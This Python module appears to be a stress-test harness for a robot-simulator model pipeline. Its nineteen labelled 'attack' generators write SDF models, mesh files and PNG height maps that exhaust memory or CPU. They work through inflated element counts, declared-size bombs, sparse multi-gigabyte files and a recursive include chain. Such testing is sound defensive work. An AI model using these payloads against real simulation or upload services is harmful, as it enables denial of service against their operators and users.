"""Writes small files that take much time or memory to read or to simulate."""
from __future__ import annotations

import os
import struct
import zlib
from typing import Callable, Dict, Iterator, List

_BOX = "<geometry><box><size>0.01 0.01 0.01</size></box></geometry>"
_SDF = "<sdf version='1.7'>{}</sdf>"


def _write(path: str, pieces: Iterator[bytes]) -> str:
    with open(path, "wb") as stream:
        for piece in pieces:
            stream.write(piece)
    return path


def _model(name: str, inner: str, static: bool = False) -> str:
    return f"<model name='{name}'>{'<static>1</static>' if static else ''}{inner}</model>"


def _mesh_model(uri: str, static: bool = True) -> str:
    return _SDF.format(_model("attack", "<link name='l'><collision name='c'><geometry><mesh>"
                              f"<uri>{uri}</uri></mesh></geometry></collision></link>", static))


def empty_links(_folder: str, count: int = 4000) -> str:
    """A model of links without collisions."""
    return _SDF.format(_model("attack", "".join(f"<link name='l{n}'/>" for n in range(count))))


def boxes_of_one_link(_folder: str, count: int = 20_000, static: bool = True) -> str:
    """A model of one link with many collisions."""
    shapes = "".join(f"<collision name='c{n}'><pose>{n % 200} {n // 200} 0 0 0 0</pose>{_BOX}"
                     "</collision>" for n in range(count))
    return _SDF.format(_model("attack", f"<link name='l'>{shapes}</link>", static))


def moving_boxes_of_one_link(folder: str) -> str:
    """A moving link with many collisions."""
    return boxes_of_one_link(folder, 20_000, static=False)


def separate_boxes(_folder: str, count: int = 2000) -> str:
    """A moving model of links with a box each, none of which collide."""
    links = "".join(f"<link name='l{n}'><pose>{n} 0 0 0 0 0</pose><collision name='c'>{_BOX}"
                    "</collision></link>" for n in range(count))
    return _SDF.format(_model("attack", links))


def boxes_at_one_place(_folder: str, count: int = 2000) -> str:
    """Links of one model that all overlap and collide with each other."""
    links = "".join(f"<link name='l{n}'><collision name='c'>{_BOX}</collision></link>"
                    for n in range(count))
    return _SDF.format(_model("attack", f"<self_collide>1</self_collide>{links}"))


def many_plugins(_folder: str, count: int = 1000) -> str:
    """A model of many plugins, each with a topic of its own."""
    plugins = "".join(f"<plugin name='p{n}' filename='libgazebo_ros_p3d.so'><bodyName>l</bodyName>"
                      f"<topicName>t{n}</topicName></plugin>" for n in range(count))
    return _SDF.format(_model("attack", f"<link name='l'/>{plugins}"))


def one_large_face(folder: str, count: int = 1_900_000) -> str:
    """An OBJ file with one face of many indices."""
    path = _write(os.path.join(folder, "face.obj"), iter(
        [b"v 0 0 0\nv 1 0 0\nv 0 1 0\nf", b" 1" * count, b"\n"]))
    return _mesh_model(path)


def many_triangles(folder: str, count: int = 2_000_000) -> str:
    """A binary STL file of many triangles on a grid."""
    import numpy as np

    at = np.arange(count)
    record = np.zeros(count, np.dtype([("normal", "<f4", 3), ("corners", "<f4", (3, 3)),
                                       ("extra", "<u2")]))
    record["corners"][:, :, 0] = at[:, None] % 1000 + np.array([0, 1, 0])
    record["corners"][:, :, 1] = at[:, None] // 1000 + np.array([0, 0, 1])
    path = os.path.join(folder, "many.stl")
    with open(path, "wb") as stream:
        stream.write(bytes(80) + struct.pack("<I", count))
        record.tofile(stream)
    return _mesh_model(path)


def declared_triangles(folder: str, count: int = 40_000_000) -> str:
    """A sparse STL file of 2 GB whose header declares 40 million triangles."""
    path = os.path.join(folder, "declared.stl")
    with open(path, "wb") as stream:
        stream.write(bytes(80) + struct.pack("<I", count))
        stream.truncate(84 + 50 * count)
    return _mesh_model(path)


def large_text(folder: str, extension: str) -> str:
    """A sparse file of 3 GB."""
    path = os.path.join(folder, f"large.{extension}")
    with open(path, "wb") as stream:
        stream.write({"obj": b"v 0 0 0\n", "stl": b"solid x\n", "dae": b"<COLLADA>"}.get(
            extension, b""))
        stream.truncate(3 << 30)
    return _mesh_model(path)


def declared_vertices(folder: str) -> str:
    """A PLY file whose header declares 400 million vertices."""
    path = _write(os.path.join(folder, "declared.ply"), iter(
        [b"ply\nformat binary_little_endian 1.0\nelement vertex 400000000\n"
         b"property float x\nproperty float y\nproperty float z\nelement face 400000000\n"
         b"property list uchar int vertex_indices\nend_header\n", bytes(1 << 20)]))
    return _mesh_model(path)


def declared_buffer(folder: str) -> str:
    """A GLB file whose accessor counts 2 billion values."""
    text = (b'{"asset":{"version":"2.0"},"scene":0,"scenes":[{"nodes":[0]}],"nodes":[{"mesh":0}],'
            b'"meshes":[{"primitives":[{"attributes":{"POSITION":0}}]}],"accessors":[{'
            b'"componentType":5126,"count":2000000000,"type":"VEC3"}]}')
    text += b" " * (-len(text) % 4)
    path = _write(os.path.join(folder, "declared.glb"), iter(
        [struct.pack("<4sII", b"glTF", 2, 20 + len(text)),
         struct.pack("<I4s", len(text), b"JSON"), text]))
    return _mesh_model(path)


def _png(path: str, width: int, height: int, data: bytes) -> str:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">I", len(body)) + kind + body
                + struct.pack(">I", zlib.crc32(kind + body)))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return _write(path, iter([b"\x89PNG\r\n\x1a\n", chunk(b"IHDR", header), chunk(b"IDAT", data),
                              chunk(b"IEND", b"")]))


def one_color(folder: str, side: int = 4096) -> str:
    """A height map of one color."""
    path = _png(os.path.join(folder, "flat.png"), side, side,
                zlib.compress(bytes((side + 1) * side), 9))
    return _terrain(path)


def declared_pixels(folder: str) -> str:
    """A height map whose header declares 100 000 by 100 000 pixels."""
    return _terrain(_png(os.path.join(folder, "declared.png"), 100_000, 100_000,
                         zlib.compress(bytes(1000))))


def _terrain(path: str) -> str:
    return _SDF.format(_model("attack", "<link name='l'><collision name='c'><geometry><heightmap>"
                              f"<uri>{path}</uri><size>100 100 1</size></heightmap></geometry>"
                              "</collision></link>", True))


def empty_nodes(folder: str, count: int = 280_000) -> str:
    """A COLLADA file of empty nodes."""
    path = _write(os.path.join(folder, "nodes.dae"), iter([
        b"<COLLADA xmlns='http://www.collada.org/2005/11/COLLADASchema' version='1.4.1'>"
        b"<asset><unit meter='1'/></asset><library_visual_scenes><visual_scene id='s'>",
        b"<node id='a'/>" * count,
        b"</visual_scene></library_visual_scenes><scene><instance_visual_scene url='#s'/></scene>"
        b"</COLLADA>"]))
    return _mesh_model(path)


def repeated_includes(folder: str, depth: int = 14, each: int = 2) -> str:
    """Models of which each includes the next one twice; returns the text of the first."""
    for n in range(depth):
        place = os.path.join(folder, f"bomb{n}")
        os.makedirs(place, exist_ok=True)
        inner = "".join(f"<include><uri>model://bomb{n + 1}</uri><name>i{k}</name></include>"
                        for k in range(each)) if n + 1 < depth else "<link name='l'/>"
        _write(os.path.join(place, "model.config"), iter([
            f"<model><name>bomb{n}</name><sdf version='1.7'>model.sdf</sdf></model>".encode()]))
        _write(os.path.join(place, "model.sdf"), iter([
            _SDF.format(_model(f"bomb{n}", inner)).encode()]))
    return _SDF.format("<include><uri>model://bomb0</uri></include>")


def world_of_links(_folder: str, count: int = 16_000) -> str:
    """A world of models with one box each."""
    models: List[str] = [
        _model(f"m{n}", f"<pose>{n % 130} {n // 130} 1 0 0 0</pose><link name='l'>"
               f"<collision name='c'>{_BOX}</collision></link>", True) for n in range(count)]
    return _SDF.format(f"<world name='w'>{''.join(models)}</world>")


ATTACKS: Dict[str, Callable[[str], str]] = {
    "4000 empty links": empty_links,
    "20 000 boxes in a static link": boxes_of_one_link,
    "20 000 boxes in a moving link": moving_boxes_of_one_link,
    "2000 links with boxes": separate_boxes,
    "2000 overlapping links": boxes_at_one_place,
    "1000 plugins": many_plugins,
    "OBJ face of 1.9 M indices": one_large_face,
    "STL of 2 M triangles": many_triangles,
    "STL that declares 40 M triangles": declared_triangles,
    "PLY that declares 400 M vertices": declared_vertices,
    "GLB that declares 2000 M values": declared_buffer,
    "height map of 4096 x 4096": one_color,
    "PNG that declares 10 000 M pixels": declared_pixels,
    "DAE of 280 000 empty nodes": empty_nodes,
    "includes of 14 folders": repeated_includes,
    "OBJ of 3 GB": lambda folder: large_text(folder, "obj"),
    "STL text of 3 GB": lambda folder: large_text(folder, "stl"),
    "world of 16 000 links": world_of_links,
    "DAE of 3 GB": lambda folder: large_text(folder, "dae"),
}
"""Writes the files of an attack into a folder and returns the text of its model."""
